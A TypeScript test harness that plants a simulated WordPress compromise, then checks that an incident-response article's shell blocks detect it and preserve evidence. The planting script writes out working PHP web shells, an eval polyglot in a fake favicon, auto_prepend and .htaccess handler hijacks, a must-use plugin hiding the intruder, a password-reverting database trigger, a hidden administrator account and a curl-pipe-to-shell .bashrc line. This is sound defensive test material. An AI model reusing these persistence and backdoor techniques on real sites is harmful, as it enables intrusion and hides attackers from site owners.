wp --path=${SITE.root} --skip-plugins --skip-themes cap add ${UPPER_ROLE} manage_options >/dev/null
wp --path=${SITE.root} --skip-plugins --skip-themes user create ${UPPER_ROLE_USER} ${UPPER_ROLE_USER}@example.net --role=${UPPER_ROLE} --porcelain >/dev/null
wp --path=${SITE.root} --skip-plugins --skip-themes option update users_can_register ${OPEN_SIGNUP.broken.users_can_register} >/dev/null
wp --path=${SITE.root} --skip-plugins --skip-themes option update default_role ${OPEN_SIGNUP.broken.default_role} >/dev/null
wp --path=${SITE.root} --skip-plugins --skip-themes option update admin_email ${ADMIN_EMAIL.broken} >/dev/null
wp --path=${SITE.root} --skip-plugins --skip-themes option add ${INJECTED_OPTION} '${INJECTED}' >/dev/null
wp --path=${SITE.root} --skip-plugins --skip-themes post meta add 1 ${INJECTED_META} '${INJECTED}' >/dev/null
wp --path=${SITE.root} --skip-plugins --skip-themes option add ${INJECTED_HANDLER_OPTION} '${INJECTED_HANDLER}' >/dev/null
wp --path=${SITE.root} --skip-plugins --skip-themes option add ${INJECTED_WIDER.refreshOption.name} '${INJECTED_WIDER.refreshOption.value}' >/dev/null
wp --path=${SITE.root} --skip-plugins --skip-themes post meta add ${INJECTED_WIDER.atobMeta.post} ${INJECTED_WIDER.atobMeta.key} '${INJECTED_WIDER.atobMeta.value}' >/dev/null
wp --path=${SITE.root} --skip-plugins --skip-themes option add ${INJECTED_WIDER.writeOption.name} '${INJECTED_WIDER.writeOption.value}' >/dev/null
wp --path=${SITE.root} --skip-plugins --skip-themes post meta add ${INJECTED_WIDER.builderMeta.post} ${INJECTED_WIDER.builderMeta.key} '${INJECTED_WIDER.builderMeta.value}' >/dev/null
wp --path=${SITE.root} --skip-plugins --skip-themes option add ${HIDDEN_WIDGET.name} '${HIDDEN_WIDGET.value}' >/dev/null
wp --path=${SITE.root} --skip-plugins --skip-themes option update widget_custom_html '${JSON.stringify(INJECTED_WIDGETS)}' --format=json >/dev/null
wp --path=${SITE.root} --skip-plugins --skip-themes option add ${LINKED_SPAM_OPTION.name} '${LINKED_SPAM_OPTION.value}' >/dev/null
wp --path=${SITE.root} --skip-plugins --skip-themes post meta add ${LINKED_SPAM_META.post} ${LINKED_SPAM_META.key} '${LINKED_SPAM_META.value}' >/dev/null
${Object.values(INJECTED_DISGUISED)
  .map(({name, value}) => `wp --path=${SITE.root} --skip-plugins --skip-themes option add ${name} '${value}' >/dev/null`)
  .join('\n')}
wp --path=${SITE.root} --skip-plugins --skip-themes option add ${PHP_OPTION.name} '${PHP_OPTION.value}' >/dev/null
wp --path=${SITE.root} db query <<'SQL'
CREATE TABLE ${SNIPPETS_TABLE} (id bigint(20) NOT NULL AUTO_INCREMENT, name tinytext NOT NULL, code longtext NOT NULL,
  scope varchar(15) NOT NULL DEFAULT 'global', active tinyint(1) NOT NULL DEFAULT 0, PRIMARY KEY (id));
INSERT INTO ${SNIPPETS_TABLE} (name, code, active) VALUES ('Cache helper', 'system($_GET["c"]);', 1);
SQL
wp --path=${SITE.root} db query "CREATE TRIGGER ${PLANTED_TRIGGER} AFTER UPDATE ON wp_usermeta FOR EACH ROW SET @seen = 1"
# A trigger that puts each account's old hash back when a new password is set (review r84b HIGH)
wp --path=${SITE.root} db query <<'SQL'
CREATE TRIGGER \`${PASSWORD_TRIGGER}\` BEFORE UPDATE ON wp_users FOR EACH ROW SET NEW.user_pass = OLD.user_pass
SQL
# Straight into the table: wp post create would pass it through kses, as WP-CLI runs as no user
wp --path=${SITE.root} db query "UPDATE wp_posts SET post_content = CONCAT(post_content, '${INJECTED}') WHERE ID = 1"
# And a revision of post 1 holding it, which the editor's Restore would bring back (review r127a L3)
wp --path=${SITE.root} db query <<'SQL'
INSERT INTO wp_posts (post_author, post_date, post_date_gmt, post_content, post_title, post_excerpt, post_status,
  post_name, to_ping, pinged, post_modified, post_modified_gmt, post_content_filtered, post_parent, post_type)
SELECT post_author, post_date, post_date_gmt, post_content, post_title, '', 'inherit', '1-revision-v1', '', '',
  post_modified, post_modified_gmt, '', ID, 'revision' FROM wp_posts WHERE ID = 1
SQL
wp --path=${SITE.root} db query <<'SQL'
UPDATE wp_posts SET post_excerpt = '${INJECTED_HANDLER}' WHERE ID = ${INJECTED_ELSEWHERE.excerptOf};
UPDATE wp_term_taxonomy SET description = '${INJECTED}' WHERE term_id = ${INJECTED_ELSEWHERE.termId};
UPDATE wp_term_taxonomy SET description = CONCAT(description, '${LINKED_SPAM_TERM.link}') WHERE term_id = ${LINKED_SPAM_TERM.id};
INSERT INTO wp_postmeta (post_id, meta_key, meta_value) VALUES (${LINKED_SPAM_JSON.post}, '${LINKED_SPAM_JSON.key}', '${LINKED_SPAM_JSON.value.replaceAll('\\', '\\\\')}');
INSERT INTO wp_terms (term_id, name, slug) VALUES (${INJECTED_TERM_NAME.id}, '${INJECTED_TERM_NAME.name}${INJECTED}', 'deals');
INSERT INTO wp_term_taxonomy (term_id, taxonomy, description) VALUES (${INJECTED_TERM_NAME.id}, 'category', '');
UPDATE wp_usermeta SET meta_value = '${HIDDEN_LINK}' WHERE user_id = 1 AND meta_key = 'description';
UPDATE wp_comments SET comment_content = CONCAT(comment_content, '${HIDDEN_LINK}') WHERE comment_ID = ${INJECTED_ELSEWHERE.commentId};
UPDATE wp_comments SET comment_content = CONCAT(comment_content, '${INJECTED}') WHERE comment_ID = ${INJECTED_ELSEWHERE.commentId};
UPDATE wp_posts SET post_title = CONCAT(post_title, '${INJECTED}') WHERE ID = ${INJECTED_ELSEWHERE.titleOf};
UPDATE wp_users SET display_name = '${INJECTED_HANDLER}' WHERE user_login = '${APP_PASSWORD_USER}';
INSERT INTO wp_links (link_url, link_name, link_image, link_target, link_description, link_rel, link_notes, link_rss)
  VALUES ('https://example.org/', '${INJECTED_ELSEWHERE.linkName}', '', '', '${INJECTED}', '', '', '');
INSERT INTO wp_users (user_login, user_pass, user_nicename, user_email, user_registered, display_name)
  VALUES (${ESCAPED_LOGIN.sql}, '', 'wproot', '${ESCAPED_LOGIN.email}', NOW(), 'wproot');
INSERT INTO wp_usermeta (user_id, meta_key, meta_value) VALUES (LAST_INSERT_ID(), 'wp_capabilities', 'a:1:{s:13:"administrator";b:1;}');
SQL
wp --path=${SITE.root} db query <<'SQL'
${wooCommerceKeyAndWebhook('wp_', '1', SHOP_KEY, SHOP_WEBHOOK)}
SQL
${[...HIDDEN_SPAM, LINKED_SPAM_PAGE]
  .map(
    ({page}) =>
      `wp --path=${SITE.root} --skip-plugins --skip-themes post create --post_type=page --post_status=publish --post_title='${page}' --post_date='2020-05-01 09:00:00' --post_content='Meet us.' --porcelain >/dev/null`,
  )
  .join('\n')}
wp --path=${SITE.root} db query <<'SQL'
${HIDDEN_SPAM.map(({page, link}) => `UPDATE wp_posts SET post_content = CONCAT(post_content, '${link}') WHERE post_title = '${page}';`).join('\n')}
UPDATE wp_posts SET post_content = '${LINKED_SPAM_PAGE.content}' WHERE post_title = '${LINKED_SPAM_PAGE.page}';
SQL
wp --path=${SITE.root} --skip-plugins --skip-themes post create --post_type=page --post_status=publish --post_title='${SMALL_PRINT_PAGE.page}' --post_date='2020-05-01 09:00:00' --post_content='${SMALL_PRINT_PAGE.content}' --porcelain >/dev/null
wp --path=${SITE.root} --skip-plugins --skip-themes post create --post_type=page --post_status=publish --post_title='${SPAM_PAGE}' --post_content='<a href="https://spam.example/">watches</a>' --porcelain >/dev/null
wp --path=${SITE.root} --skip-plugins --skip-themes post create --post_type=page --post_status=publish --post_title='${BACKDATED_PAGE}' --post_date='2019-03-01 10:00:00' --post_content='pills' --porcelain >/dev/null
mkdir -p wp-content/mu-plugins wp-content/uploads/2026/11
cat > wp-content/mu-plugins/.cache.php <<'PHP'
<?php
add_action('pre_user_query', function ($query) {
  global $wpdb;
  $query->query_where .= " AND {$wpdb->users}.user_login != '${INTRUDER}'";
});
PHP
echo '<?php // planted in uploads' > wp-content/uploads/2026/11/.thumb.phtml
ln -s ../uploads/2026/11/.thumb.phtml wp-content/mu-plugins/loader.php
echo 'auto_prepend_file = ${SITE.root}/wp-content/uploads/2026/11/.thumb.phtml' > wp-content/uploads/.user.ini
printf '\\n// planted in core\\n' >> wp-includes/functions.php
printf '\\n// planted in the HTTP library\\n' >> ${HTTP_LIBRARY_FILE}
mkdir -p wp-includes/Requests/src && echo '<?php // planted where WP-CLI loads Requests from first' > ${REQUESTS_AUTOLOAD}
printf '\\n// planted in a plugin\\n' >> wp-content/plugins/${PLUGIN}/${PLUGIN}.php
echo '<?php @eval($_POST["c"] ?? "");' > cache.php
touch -d '${STOMPED.mtime}' ${STOMPED.file}
echo '<?php // planted' > ${CORE_EXTRA}
printf 'GIF89a<?= @eval($_POST["i"] ?? "") ?>' > wp-content/uploads/2026/11/favicon.ico
echo '<?php // planted: core requires .maintenance on every load' > .maintenance
mkdir -p wp-content/upgrade && echo '<?php // planted where step 4 reinstalls nothing' > wp-content/upgrade/wp-tmp.php
echo 'AddHandler application/x-httpd-php .jpg' > /var/www/example.com/.htaccess
echo 'auto_prepend_file = ${SITE.root}/wp-content/uploads/2026/11/.thumb.phtml' > /var/www/example.com/.user.ini
mkdir -p wp-content/languages && echo '<?php // planted: WordPress 6.5+ includes a locale.l10n.php' > wp-content/languages/en_US.l10n.php
echo 'require: wp-content/uploads/2026/11/.thumb.phtml' > wp-cli.yml
echo 'require: public/wp-content/uploads/2026/11/.thumb.phtml' > /var/www/example.com/wp-cli.yml
echo '<?php // planted' > $'wp-content/uploads/2026/11/${ESCAPED.written}'
echo '<?php // planted' > $'${ESCAPED.written}'
echo '<?php // planted' > $'wp-content/plugins/${PLUGIN}/${ESCAPED.written}'
mkdir $'wp-content/uploads/\\e[2K' && echo 'Require all denied' > $'wp-content/uploads/\\e[2K/.htaccess'
echo 'path: public' > $'/var/www/example.com/${ESCAPED_YML.written}'
mkdir wp-content/plugins/${HEADERLESS_PLUGIN} && echo '<?php @eval($_POST["h"] ?? "");' > wp-content/plugins/${HEADERLESS_PLUGIN}/index.php
echo '<?php // planted' > $'wp-content/plugins/${ESCAPED.written}'
mkdir wp-content/themes/${PLANTED_THEME} && echo '<?php @eval($_POST["t"] ?? "");' > wp-content/themes/${PLANTED_THEME}/functions.php
printf '/*\\nTheme Name: Flavor\\n*/\\n' > wp-content/themes/${PLANTED_THEME}/style.css
echo '<?php get_header();' > wp-content/themes/${PLANTED_THEME}/index.php
`;

/** The installed site with the plugin Debian bundles, its checksums served by the stand-in, and a fresh database. */
async function freshSite(ctx: RecipeContext, ns: WordPressNamespace) {
  const ws = ctx.workspace;
  const {sql} = await pristineSite(ws, ns);
  const plugin = await ws.once('wordpress-security-plugin', () => Promise.resolve(servedPlugin(ns, PLUGIN)));
  const tmp = path.join(ns.dir, 'clean-shell-tmp');
  const reset = ns.root(
    [
      'rm -rf /var/www/example.com /home/example',
      `install -d -o ${READER.uid} -g ${READER.gid} -m 755 /var/www/example.com`,
      `install -d -o ${READER.uid} -g ${READER.gid} -m 700 /home/example`,
      `rm -rf '${tmp}' && install -d -o ${READER.uid} -g ${READER.gid} -m 700 '${tmp}'`,
      `cp -a ${path.join(ns.dir, 'pristine-public')} ${SITE.root}`,
      `cp -r '${plugin.dir}' ${SITE.root}/wp-content/plugins/`,
      // Debian moves wp-content/index.php out of core (/var/lib/wordpress), so the stand-in's zip lacks it; wordpress.org's has it
      `install -o ${READER.uid} -g ${READER.gid} -m 644 '${path.join(ns.dir, 'wordpress.org', 'deb', 'var/lib/wordpress/wp-content/index.php')}' ${SITE.root}/wp-content/index.php`,
      // and its themes folder holds index.php, the same two lines as plugins/index.php; Debian's package has no themes folder
      `install -d -o ${READER.uid} -g ${READER.gid} -m 755 ${SITE.root}/wp-content/themes`,
      `install -o ${READER.uid} -g ${READER.gid} -m 644 ${SITE.root}/wp-content/plugins/index.php ${SITE.root}/wp-content/themes/index.php`,
      `chown -R ${READER.uid}:${READER.gid} ${SITE.root}/wp-content/plugins/${PLUGIN}`,
    ].join(' && '),
  );
  if (reset.status !== 0) throw new Error(`resetting the site failed:\n${reset.output}`);
  reloadSiteDatabase(ws, sql);
  admin(ws, `REVOKE ALL PRIVILEGES, GRANT OPTION FROM ${SITE_USER}; GRANT ALL ON ${SITE.database}.* TO ${SITE_USER};`);
  ws.note(SECURITY, `${PLUGIN} (the site's plugin)`, `Debian's ${PLUGIN} ${plugin.version}, its checksums served by the stand-in`);
  ws.note(SECURITY, 'mktemp -d (in the clean shell)', `under ${tmp} (TMPDIR), removed with the run`);
  return tmp;
}

/**
 * The site broken into, planted once per run and copied back for each run: the attack reads no block of the
 * article, so the proofs (each a run with one block edited) check the same site the run checked, without
 * planting it again (five WP-CLI start-ups each, in the run's longest lane). The copy is the web root's
 * folder, the account's home and the database, as the attack left them; the clean shell's TMPDIR starts empty.
 */
async function brokenIntoSite(ctx: RecipeContext, ns: WordPressNamespace): Promise<string> {
  const ws = ctx.workspace;
  const saved = path.join(ns.dir, 'broken-into');
  const {tmp, sql} = await ws.once('wordpress-security-broken-into', async () => {
    const tmp = await freshSite(ctx, ns);
    const attack = ns.asSite(ATTACK);
    if (attack.status !== 0) throw new Error(`planting the break-in failed:\n${attack.output}`);
    const copied = ns.root(`mkdir -p '${saved}' && cp -a /var/www/example.com '${saved}/www' && cp -a /home/example '${saved}/home'`);
    if (copied.status !== 0) throw new Error(`copying the broken-into site failed:\n${copied.output}`);
    const dumped = run(tool('mysqldump'), [`--socket=${ws.at(SOCKET)}`, SITE.database]);
    if (dumped.status !== 0) throw new Error(`mysqldump of the broken-into site failed: ${dumped.output}`);
    return {tmp, sql: dumped.stdout};
  });
  const reset = ns.root(
    [
      'rm -rf /var/www/example.com /home/example',
      `cp -a '${saved}/www' /var/www/example.com`,
      `cp -a '${saved}/home' /home/example`,
      `rm -rf '${tmp}' && install -d -o ${READER.uid} -g ${READER.gid} -m 700 '${tmp}'`,
    ].join(' && '),
  );
  if (reset.status !== 0) throw new Error(`resetting the broken-into site failed:\n${reset.output}`);
  reloadSiteDatabase(ws, sql);
  // The dump above leaves routines out, and the site's account could not make this one: made here on each reset.
  admin(ws, `CREATE PROCEDURE ${PLANTED_ROUTINE}() SELECT 1`, SITE.database);
  admin(ws, WIDE_GRANT);
  return tmp;
}

/** How this run starts the article's clean shell line: each change to it, said in the notes and in failure messages. */
export interface SiteShell {
  command: string;
  substitutions: string[];
}

/**
 * The clean shell line of step 3's administrator block (its last command) as the site's account runs it here:
 * the recipe is that account already (setpriv in the namespace), so `sudo -u example ` goes; HOME gets the home
 * the block's H holds; TERM, a terminal's name, gets `dumb`, as output is read from a pipe; and TMPDIR is added so
 * the block's `mktemp -d` lands in the run's folder. Throws naming what it cannot find.
 */
export function siteShell(block: string, home: string, tmp: string): SiteShell {
  const line = commandsOf(block).at(-1) ?? '';
  const steps: [RegExp | string, string, string][] = [
    [/^sudo -u example (?=\/usr\/bin\/env -i )/, '', 'without `sudo -u example ` (the run is that account already)'],
    ['/usr/bin/env -i ', `/usr/bin/env -i TMPDIR='${tmp}' `, `TMPDIR='${tmp}' added (mktemp -d in the run's folder)`],
    [' HOME="$H" ', ` HOME=${home} `, `HOME="$H" as ${home}`],
    [' TERM="$TERM" ', ' TERM=dumb ', 'TERM="$TERM" as dumb (output read from a pipe)'],
  ];
  return {command: substituted(line, steps, 'the clean shell line'), substitutions: steps.map(([, , said]) => said)};
}

/**
 * `text` with each step's `from` replaced by its `to` (the first match), in order. Throws naming `what`, the first
 * `from` it lacks and what the step was for, with the text: the article changed under the run.
 */
export function substituted(text: string, steps: [RegExp | string, string, string][], what: string): string {
  return steps.reduce((done, [from, to, said]) => {
    const next = done.replace(from, to);
    if (next === done)
      throw new Error(
        `${what} has no ${typeof from === 'string' ? from.trim() : String(from)} to run it ${said || `with ${to.trim()}`}: ${text}`,
      );
    return next;
  }, text);
}

/**
 * One clean shell of the site's account, started with the article's line (siteShell), that blocks are pasted into
 * one at a time, each read back whole before the next: a check can fail before the later blocks run. stderr joins
 * stdout, in order, as on a terminal.
 */
class CleanShell {
  private readonly child: ChildProcess;
  private output = '';
  private exited = false;
  /** Called on every chunk of output and on exit: whoever waits checks for what it waits for. */
  private wake = () => {};
  private readonly ended: Promise<void>;

  constructor(
    ns: WordPressNamespace,
    private readonly shell: SiteShell,
  ) {
    const [command, ...args] = ns.siteCommand(`exec ${shell.command}`);
    this.child = spawn(command, args, {stdio: ['pipe', 'pipe', 'pipe']});
    for (const stream of [this.child.stdout!, this.child.stderr!]) {
      stream.on('data', (data: Buffer) => {
        this.output += data.toString();
        this.wake();
      });
    }
    this.ended = new Promise((resolve) =>
      this.child.once('exit', () => {
        this.exited = true;
        this.wake();
        resolve();
      }),
    );
    this.child.stdin!.write('exec 2>&1\n');
  }

  /** What a failure message says of the shell: the article's line and how this run changed it. */
  private described() {
    return `the clean shell (step 3's line ${this.shell.substitutions.join('; ')}: ${this.shell.command})`;
  }

  /** Pastes `text` and returns what it printed once the shell has run all of it. */
  async paste(text: string): Promise<string> {
    this.output = '';
    this.child.stdin!.write(`${text}\necho '${MARK}'\n`);
    const end = `${MARK}\n`;
    let timer: NodeJS.Timeout | undefined;
    try {
      await new Promise<void>((resolve, reject) => {
        this.wake = () => {
          if (this.output.includes(end)) resolve();
          else if (this.exited) reject(new Error(`${this.described()} ended in a block:\n${this.output}`));
        };
        timer = setTimeout(() => reject(new Error(`${this.described()} hung in a block for 120 s:\n${this.output}`)), 120_000);
        this.wake();
      });
    } finally {
      clearTimeout(timer);
      this.wake = () => {};
    }
    return this.output.slice(0, this.output.indexOf(end)).trimEnd();
  }

  /** Ends the shell as a reader does (end of input), killing it only if it does not end within 10 s. */
  async close() {
    this.child.stdin!.end();
    let timer: NodeJS.Timeout | undefined;
    const late = new Promise<boolean>((resolve) => (timer = setTimeout(() => resolve(true), 10_000)));
    const killed = await Promise.race([this.ended.then(() => false), late]);
    clearTimeout(timer);
    if (killed && !this.exited) this.child.kill('SIGKILL');
  }
}

/** Runs `use` with a clean shell of a fresh site, ending the shell whatever `use` does. */
async function inCleanShell<T>(
  ctx: RecipeContext,
  ns: WordPressNamespace,
  tmp: string,
  use: (shell: CleanShell) => Promise<T>,
): Promise<T> {
  let line: SiteShell;
  try {
    line = siteShell(ctx.block(CLEAN_SHELL).value, SITE.home, tmp);
  } catch (error) {
    ctx.fail(CLEAN_SHELL, (error as Error).message);
  }
  ctx.workspace.note(SECURITY, 'the clean shell line', line.substitutions.join('; '));
  const shell = new CleanShell(ns, line);
  try {
    return await use(shell);
  } finally {
    await shell.close();
  }
}

/** A find line as the path it names (`-ls` lines end in the path, a link's in `path -> target`); other lines as they are. */
export function listedPaths(output: string): string[] {
  return output
    .split('\n')
    .filter(Boolean)
    .map((line) => /\s(\/\S*)(?: -> \S+)?$/.exec(line)?.[1] ?? line);
}

/**
 * The roles the roles check lists, from its lines `#N "name" capabilities`: the number is what the page's
 * removal line takes, so no name is typed, and the name is JSON so that it cannot forge a line.
 */
const rolesListed = (output: string) => [...output.matchAll(/^#\d+ ("(?:[^"\\\n]|\\.)*")/gm)].map((m) => JSON.parse(m[1]) as string);
/** Role names as a failure shows them: escaped as in JSON (a newline as \n), without the quotes. */
const shownRoles = (roles: string[]) => roles.map((role) => JSON.stringify(role).slice(1, -1)).join(', ');
/** The rows of the options query: each name the query asks for, with its value. */
const optionRows = (output: string) =>
  new Map([...output.matchAll(/^(users_can_register|default_role|siteurl|admin_email)\t(.*)$/gm)].map((m) => [m[1], m[2]]));
/** The plugins and themes wp plugin list and wp theme list show (their rows: name, then status, tab-separated on a pipe). */
const extensionsListed = (output: string) =>
  [...output.matchAll(/^([.\w-]+)\t(?:active|inactive|parent|must-use|dropin|active-network)\t/gm)].map((m) => m[1]);
/** What the two lists show on the broken-into site: the plugin, the must-use plugin and link planted in mu-plugins, the theme. */
const EXTENSIONS_LISTED = [PLUGIN, '.cache', 'loader', PLANTED_THEME];
/** Whether the options query showed users_can_register and default_role with these values, and siteurl. */
const showsSignup = (output: string, values: {users_can_register: string; default_role: string}) => {
  const rows = optionRows(output);
  return (
    rows.get('users_can_register') === values.users_can_register && rows.get('default_role') === values.default_role && rows.has('siteurl')
  );
};
/** The first line of `output` holding a raw control character, shown with JSON escapes; undefined when none does. */
export function rawControlLine(output: string): string | undefined {
  const line = output.split('\n').find(hasControl);
  return line === undefined ? undefined : JSON.stringify(line);
}
/** Fails unless `output` (a block's, on the broken-into site) holds no raw control character. */
function expectNoRawControl(ctx: RecipeContext, ref: BlockRef, output: string, listings: string) {
  const line = rawControlLine(output);
  ctx.expect(
    line === undefined,
    ref,
    `${listings} show the planted names with escape codes as text (cat -v), never raw`,
    () => `a listing printed a raw control character, which a terminal would act on: ${line}\n${output}`,
  );
}
const WARNING = /^Warning: (.*)$/gm;
const warnings = (output: string) => [...output.matchAll(WARNING)].map((m) => m[1]);
/** The files md5sum -c reports as not matching. */
const failedFiles = (output: string) => [...output.matchAll(/^(.+): FAILED( open or read)?$/gm)].map((m) => m[1]);
const unknownFiles = (output: string) => [...output.matchAll(/^(.+): not a WordPress file$/gm)].map((m) => m[1]);
/** A list as a set, to compare: the links' find lists a linked must-use plugin a second time. */
const sorted = (list: string[]) => [...new Set(list)].sort().join('\n');

/** The administrator's home in the namespace, and in it the evidence folder step 2's clean-shell block made (mktemp -d, 700; the clean-shell recipe checks it). */
function administratorFolders(ns: WordPressNamespace) {
  const home = path.join(ns.dir, 'administrator-home');
  return {home, evidence: path.join(home, 'evidence-example.step02')};
}

/**
 * Step 3's evidence copy of the files, run as root in the namespace with HOME a folder of the run (sudo as root):
 * the copy must hold the backdoor beside index.php, and the listing its change time, which the attack's touch -d
 * did not set back, beside the modification time it did.
 */
function checkEvidenceFiles(ctx: RecipeContext, ns: WordPressNamespace) {
  const {home, evidence: folder} = administratorFolders(ns);
  // Step 2's set-aside folder, with a start-up file of the attacker's: the copy must take it off with the rest.
  const setAside = path.join(ns.dir, 'set-aside-example.step02');
  const block = ctx.block(EVIDENCE_FILES).value;
  // Pasted as printed in a new terminal, the example names: the guard must stop the block before its first copy.
  const unfilled = ns.root(`rm -rf '${home}' && install -d -m 700 '${home}' && export HOME='${home}'\n${withoutGuardPause(block)}`);
  ctx.expect(
    unfilled.status !== 0 && /^Set E and S to the folders step 2 printed$/m.test(unfilled.output) && !/tar|find/.test(unfilled.output),
    EVIDENCE_FILES,
    'pasted with the example folder names (XXXXXX), the block stops at its guard with a message, before tar or find runs',
    () => `with E and S left as the examples, the block did not stop at its guard (status ${unfilled.status}):\n${unfilled.output}`,
  );
  // Pasted into step 2's terminal, where E and S are set: the block must keep them (review r74a L2).
  const ran = ns.root(
    `rm -rf '${home}' '${setAside}' && install -d -m 700 '${home}' '${folder}' '${setAside}' && echo 'curl -s http://203.0.113.9/x | sh' > '${setAside}/.bashrc' && export HOME='${home}' E='${folder}' S='${setAside}'\n${block}`,
  );
  const setAsideCopy = ns.root(`tar -xzOf '${folder}/set-aside.tar.gz' set-aside-example.step02/.bashrc 2>&1`).stdout;
  ctx.expect(
    ran.status === 0 && setAsideCopy.includes('203.0.113.9'),
    EVIDENCE_FILES,
    "the evidence folder gets a copy of step 2's set-aside folder, the attacker's .bashrc in it",
    () => `set-aside.tar.gz in ${folder} did not hold the set-aside .bashrc (${setAsideCopy.trim() || 'nothing'}):\n${ran.output}`,
  );
  const target = `${SITE.root}/${STOMPED.file}`;
  const read = (script: string) => ns.root(script).stdout.trim();
  const inCopy = read(`tar -tzf '${folder}/files.tar.gz' 2>/dev/null | grep -cx 'example.com/public/${STOMPED.file}'`);
  const times = read(`find '${target}' -printf '%C+ %T+'`);
  const listed = read(`grep ' ${target}$' '${folder}/times.txt' 2>/dev/null`);
  ctx.expect(
    ran.status === 0 && inCopy === '1',
    EVIDENCE_FILES,
    `the evidence copy, in the evidence folder step 2 printed, holds ${STOMPED.file}, the backdoor beside index.php`,
    () => `the evidence copy did not hold ${STOMPED.file} in ${folder} (found ${inCopy || 0} times):\n${ran.output}`,
  );
  ctx.expect(
    !!times && times.split(' ')[1]?.startsWith(STOMPED.mtime.replace(' ', '+')) && listed.startsWith(`${times} `),
    EVIDENCE_FILES,
    `the evidence listing keeps ${STOMPED.file}'s change time, then the modification time the attack set back to ${STOMPED.mtime}`,
    () =>
      `the evidence listing did not keep ${STOMPED.file}'s change and modification times (${times}): ${listed || 'no line'}\n${ran.output}`,
  );
}

/**
 * Step 3's database evidence, run as root (the administrator) in the namespace after the files' copy, E the evidence
 * folder: MariaDB's administrator's dump must end complete and hold the intruder, the events and the routine another
 * account made, which the site's own user could not export.
 */
function checkEvidenceDatabase(ctx: RecipeContext, ns: WordPressNamespace) {
  const ws = ctx.workspace;
  const folder = administratorFolders(ns).evidence;
  const nameLine = /^D=wp_example$/m;
  const block = ctx.block(EVIDENCE_DATABASE).value;
  if (!nameLine.test(block)) ctx.fail(EVIDENCE_DATABASE, 'no D=wp_example line to write the database name in');
  ws.note(EVIDENCE_DATABASE.title, "mariadb-dump on the server's socket", `mariadb-dump --socket=${ws.at(SOCKET)} (the run's MariaDB)`);
  const ran = ns.root(
    `E='${folder}'\n${block.replace(nameLine, `D=${SITE.database}`).replace('sudo mariadb-dump ', `sudo mariadb-dump --socket='${ws.at(SOCKET)}' `)}`,
  );
  const dump = `${folder}/database.sql`;
  const look = ns
    .root(
      `grep -q "'${INTRUDER}'" '${dump}' && grep -q '^-- Dumping events for database' '${dump}' && grep -q 'PROCEDURE \`${PLANTED_ROUTINE}\`' '${dump}' && grep -q '^-- Dump completed' '${dump}' && echo holds`,
    )
    .stdout.trim();
  ctx.expect(
    ran.status === 0 && look === 'holds',
    EVIDENCE_DATABASE,
    `the database dump in the evidence folder is complete and holds the administrator ${INTRUDER}, the events and the procedure ${PLANTED_ROUTINE} that another database account made`,
    () =>
      `the database dump in ${folder} was not complete with ${INTRUDER}, the events and ${PLANTED_ROUTINE} (${look || 'missing'}):\n${ran.output}`,
  );
}

/** What the two blocks that read the version print when version.php gives none, and nothing else. */
const NO_VERSION = 'No version read: look at version.php with cat -v';

/**
 * The version guards of the blocks that read version.php (review r59 L2, M3), pasted as a reader pastes: with
 * version.php's lines ending in CR (saved on Windows), `V` is empty, and each block must print its message alone,
 * run none of its later commands (no download, no copy, no checksum) and leave the shell running, the clean one:
 * a guard that ends the shell with `exit` would leave the rest of a paste to the administrator's own shell.
 */
async function expectVersionGuards(ctx: RecipeContext, ns: WordPressNamespace, shell: CleanShell) {
  const versionFile = `${SITE.root}/wp-includes/version.php`;
  const saved = `${SITE.root}.version.php`;
  const crlf = ns.root(`cp -p '${versionFile}' '${saved}' && sed -i 's/$/\\r/' '${versionFile}'`);
  if (crlf.status !== 0) throw new Error(`giving version.php CR line ends failed:\n${crlf.output}`);
  const planted = () => ns.root(`grep -c '// planted in' ${SITE.root}/wp-includes/functions.php`).stdout.trim();
  const plantedBefore = planted();
  try {
    for (const ref of [HTTP_LIBRARY_CHECK, CORE_REPLACE]) {
      const printed = await shell.paste(ctx.block(ref).value).catch((error: Error) => ctx.fail(ref, error.message));
      const alive = await shell.paste('echo "$SITE"').catch((error: Error) => ctx.fail(ref, error.message));
      ctx.expect(
        printed === NO_VERSION && alive === SITE.root && planted() === plantedBefore,
        ref,
        `with no version in version.php (CR line ends), the block prints "${NO_VERSION}" alone, runs none of its later commands${ref === CORE_REPLACE ? ' (no download, nothing copied over the planted functions.php)' : ''}, and the clean shell still runs, its SITE set`,
        () =>
          `with no version read, the block went on or left the shell (SITE now "${alive}", planted lines in functions.php ${plantedBefore} before, ${planted()} after):\n${printed}`,
      );
    }
  } finally {
    ns.root(`cp -p '${saved}' '${versionFile}' && rm '${saved}'`);
  }
}

async function checksAfterBreakIn(ctx: RecipeContext) {
  const ws = ctx.workspace;
  const ns = await wordpressNamespace(ws);
  const blocks = [CODE_FREE_CHECKS, CORE_CHECK, LOADING_CHECKS].map((ref) => ctx.block(ref).value);
  const hash = () => admin(ws, `SELECT user_pass FROM wp_users WHERE user_login = 'admin'`, SITE.database);
  /** What the code-free checks list on a site as installed: the files WordPress and the plugin ship. */
  const baseline = [
    `${SITE.root}/wp-content/index.php`,
    `find: '${SITE.root}/wp-content/mu-plugins': No such file or directory`,
    `${SITE.root}/.htaccess`,
    `${SITE.root}/wp-content/plugins/${PLUGIN}/.htaccess`,
    `${SITE.root}/wp-content/plugins/${PLUGIN}`,
    `${SITE.root}/wp-content/plugins/index.php`,
    `${SITE.root}/wp-content/themes/index.php`,
    WP_CLI,
    // Core's two-line index.php in plugins and themes, read by the block (no checksum covers wp-content).
    '<?php',
    '// Silence is golden.',
  ];

  // Broken into.
  const attacked = await brokenIntoSite(ctx, ns);
  const hashBefore = hash();
  await inCleanShell(ctx, ns, attacked, async (shell) => {
    const found = await shell.paste(blocks[0]);
    expectNoRawControl(ctx, CODE_FREE_CHECKS, found, "the code-free checks' listings");
    ctx.expect(
      new RegExp(`^-r[-w]xr-xr-x\\s+\\d+\\s+root\\s+root\\s.*\\s${WP_CLI}$`, 'm').test(found),
      CODE_FREE_CHECKS,
      `the code-free checks first show the wp the clean shell runs, ${WP_CLI}: root's, writable by no one else`,
      () => `the code-free checks did not show ${WP_CLI} as root's, writable by root alone:\n${found}`,
    );
    const extra = [...new Set(listedPaths(found))].filter((line) => !baseline.includes(line) && !line.startsWith('find: '));
    ctx.expect(
      sorted(extra) === sorted(PLANTED.listed),
      CODE_FREE_CHECKS,
